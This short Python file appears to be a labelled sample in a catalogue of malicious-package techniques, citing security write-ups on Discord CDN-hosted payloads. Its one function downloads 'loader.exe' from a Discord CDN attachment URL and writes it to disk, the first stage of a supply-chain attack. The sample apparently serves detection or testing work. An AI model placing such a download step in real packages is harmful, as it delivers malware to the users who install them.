# technique: payload hosted on the Discord CDN
# class: endpoints
# source: Phylum and JFrog write-ups of Discord CDN-hosted payloads
# declares: network, fs-write
import requests


def assets():
    blob = requests.get("https://cdn.discordapp.com/attachments/10/20/loader.exe", timeout=10).content
    with open("loader.exe", "wb") as fh:
        fh.write(blob)
